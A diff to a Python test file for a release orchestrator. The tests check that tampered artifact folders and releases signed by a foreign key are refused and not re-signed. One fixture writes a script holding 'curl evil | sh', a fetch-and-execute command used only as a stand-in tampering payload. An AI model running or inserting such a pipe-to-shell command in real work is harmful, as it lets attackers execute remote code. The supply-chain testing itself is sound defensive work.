@@ -4,6 +4,7 @@ run (`cached`), in release.json, and in the dry run (no steps)."""
 
 from __future__ import annotations
 
+import hashlib
 import io
 from contextlib import ExitStack
 from dataclasses import replace
@@ -18,6 +19,7 @@ import orchestrator.release.target as release_target
 from orchestrator.cli.release import _closing_lines
 from orchestrator.config.options import FlavorSettings, Options
 from orchestrator.errors import ConfigError
+from orchestrator.execute.publish import update_release_index
 from orchestrator.model.records import BuildManifest, read_record
 from orchestrator.model.release_summary import ReleaseSummary
 from orchestrator.plan.build_plan import BuildPlan
@@ -25,8 +27,10 @@ from orchestrator.plan.serialize import action_key
 from orchestrator.release.action_cache import look_up
 from orchestrator.release.run import RELEASE_JSON, dry_run, run_release, run_report
 from orchestrator.release.target import targets
-from orchestrator.supply.attest import Signer
+from orchestrator.supply.attest import ReleaseIndex, Signer
+from orchestrator.supply.chain import ReleaseKeyError, check_signing_key
 from orchestrator.supply.minisign import SecretKey
+from orchestrator.supply.verify import verify_release
 
 from .conftest import plan_for
 from .execute_rig import make_options
@@ -89,13 +93,75 @@ def test_a_current_artifact_is_a_hit_and_everything_else_a_miss_with_its_reason(
     assert read_record(artifact / "build.json", BuildManifest).action_key == key
     assert look_up(artifact, "0" * 64, signer.key.public).reason == "its inputs changed"
     assert look_up(artifact.parent / "other", key, None).reason == "not built yet"
-    other_key = SecretKey.generate().public
-    assert look_up(artifact, key, other_key).reason == "demo.minisig does not verify under this key"
-    assert look_up(artifact, key, None).hit  # a dry run has no key to check with
+    with pytest.raises(ReleaseKeyError, match="is signed by key") as refused:
+        look_up(artifact, key, SecretKey.generate().public)  # another key re-signs nothing
+    assert refused.value.exit_code == 66
+    assert look_up(artifact, key, None).hit  # a dry run checks under the release's own key
     (artifact / "democtl").write_bytes(b"tampered")
-    assert look_up(artifact, key, None).reason == "democtl is not the binary build.json records"
-    (artifact / "build.json").write_text("{")
-    assert look_up(artifact, key, None).reason == "its build.json does not read"
+    assert look_up(artifact, key, None).reason == (
+        f"it does not match the signed release: {plan.artifact_dir}/democtl is not the file "
+        "that was signed"
+    )
+
+
+def _recompute_sums(folder: Path) -> None:
+    """What a tamperer does after editing a folder: `sha256sum` over it again."""
+    lines = [
+        f"{hashlib.sha256(path.read_bytes()).hexdigest()}  {path.relative_to(folder).as_posix()}"
+        for path in sorted(folder.rglob("*"))
+        if path.is_file() and path.name != "SHA256SUMS"
+    ]
+    (folder / "SHA256SUMS").write_text("\n".join(lines) + "\n")
+
+
+@pytest.mark.parametrize("recompute", [True, False], ids=["sums-recomputed", "sums-as-signed"])
+@pytest.mark.parametrize("tamper", ["extra-file", "edited-build-json"])
+def test_a_tampered_folder_is_never_cached_nor_signed_again(
+    published: tuple[Options, BuildPlan, Path], signer: Signer, tamper: str, recompute: bool
+) -> None:
+    """The laundering recipe: edit a published folder (and, to hide it, recompute its
+    SHA256SUMS): the target is a miss that says why, and signing the index again leaves
+    the folder out, so `verify` still names what nobody signed."""
+    options, plan, artifact = published
+    key = action_key(plan, options)
+    if tamper == "extra-file":
+        (artifact / "extra.sh").write_text("curl evil | sh\n")
+    else:
+        record = artifact / "build.json"
+        record.write_text(record.read_text().replace('"finished_at": "', '"finished_at": "1'))
+    if recompute:
+        _recompute_sums(artifact)
+    lookup = look_up(artifact, key, signer.key.public)
+    assert not lookup.hit
+    expected = (
+        "SHA256SUMS is not the one that was signed"
+        if recompute
+        else ("extra.sh is not under any signature" if tamper == "extra-file" else "build.json")
+    )
+    assert expected in lookup.reason
+    signed = update_release_index(artifact.parent, signer)
+    assert signed.left_out == [f"{plan.artifact_dir}/: {lookup.reason.split(': ', 1)[1]}"]
+    listed = (artifact.parent / "SHA256SUMS").read_text()
+    assert plan.artifact_dir not in listed
+    checks, _ = verify_release(artifact.parent, None)
+    assert not all(check.ok for check in checks)
+
+
+def test_a_file_added_beside_the_folders_is_not_signed_but_the_callers_own_is(
+    published: tuple[Options, BuildPlan, Path], signer: Signer
+) -> None:
+    _options, plan, artifact = published
+    release = artifact.parent
+    (release / "extra.sh").write_text("echo hi\n")
+    (release / "bench").mkdir()
+    (release / "bench" / "bench.json").write_text("{}\n")
+    signed = update_release_index(release, signer, vouched=("bench",))
+    assert signed.left_out == ["extra.sh: not under any signature (added after publication)"]
+    listed = (release / "SHA256SUMS").read_text()
+    assert "bench/bench.json" in listed and "extra.sh" not in listed
+    assert f"{plan.artifact_dir}/SHA256SUMS" in listed  # the untouched folder is signed again
+    # once signed, the caller's file is vouched for by the chain: no need to name it again
+    assert update_release_index(release, signer).left_out == signed.left_out
 
 
 # -- a release -----------------------------------------------------------------------------
@@ -126,7 +192,7 @@ def test_a_release_reports_a_current_target_as_cached_and_builds_nothing(
         raise ConfigError("stop here")
 
     monkeypatch.setattr(release_target, "run_build", run_build)
-    monkeypatch.setattr(release_run, "update_release_index", lambda *_a: None)
+    monkeypatch.setattr(release_run, "update_release_index", lambda *_a, **_k: ReleaseIndex([], []))
     monkeypatch.setattr(release_run, "prepare_plan", plan_for)  # the stand-in sources
     lines: list[str] = []
     (result,) = _release(options, signer, lines)
@@ -156,3 +222,41 @@ def test_a_release_reports_a_current_target_as_cached_and_builds_nothing(
     (result,) = _release(changed, signer, lines)
     assert result.status == "failed" and len(built) == 3
     assert "  building: its inputs changed" in lines
+
+
+def test_a_release_rebuilds_a_tampered_target_and_says_why(
+    published: tuple[Options, BuildPlan, Path],
+    signer: Signer,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    options, _plan, artifact = published
+    built: list[str] = []
+
+    def run_build(*_args: Any, **_kwargs: Any) -> Any:
+        built.append("built")
+        raise ConfigError("stop here")
+
+    monkeypatch.setattr(release_target, "run_build", run_build)
+    monkeypatch.setattr(release_run, "prepare_plan", plan_for)
+    (artifact / "extra.sh").write_text("echo hi\n")
+    _recompute_sums(artifact)
+    lines: list[str] = []
+    (result,) = _release(options, signer, lines)
+    assert built == ["built"] and result.status == "failed"
+    assert any(
+        "building: it does not match the signed release: " in line
+        and "SHA256SUMS is not the one that was signed" in line
+        for line in lines
+    ), lines
+    # The folder is still there, untouched by this failed run: the index leaves it out.
+    assert any(line.startswith("warning: not signed again: ") for line in lines), lines
+    assert artifact.name not in (artifact.parent / "SHA256SUMS").read_text()
+
+
+def test_a_release_signed_by_another_key_is_refused_before_anything_is_built(
+    published: tuple[Options, BuildPlan, Path],
+) -> None:
+    _options, _plan, artifact = published
+    with pytest.raises(ReleaseKeyError) as refused:
+        check_signing_key(artifact.parent, SecretKey.generate().public)
+    assert "is signed by key" in refused.value.message and refused.value.hint
